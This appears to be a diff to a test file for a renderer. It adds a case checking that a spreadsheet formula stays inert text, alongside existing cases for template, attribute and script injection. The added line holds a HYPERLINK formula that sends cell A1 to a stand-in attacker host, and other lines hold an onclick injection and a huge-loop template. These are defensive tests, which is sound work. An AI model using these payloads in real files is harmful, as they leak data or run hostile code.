@@ -236,6 +236,8 @@ CASES: tuple[Case, ...] = (
     # Template syntax is text: nothing from a policy is rendered as a template.
     Case("jinja-syntax", "page", contains=("{{ config }}", "{% for x in range(10**9) %}{{ x }}{% endfor %}")),
     Case("mkdocs-macros-syntax", "page", contains=("{{ macros_info() }}", "{: onclick=\"window.__pwned=1\" }")),
+    # Spreadsheet formulas: verbatim on the page and in JSON, kept as text in the CSV export.
+    Case("csv-formula", "page", contains=('=HYPERLINK("https://evil.example/?leak="&amp;A1,',)),
     # Front matter.
     Case("frontmatter-body-starts-with-dashes", "page", contains=("name: Injected &lt;script&gt;",)),
     Case(
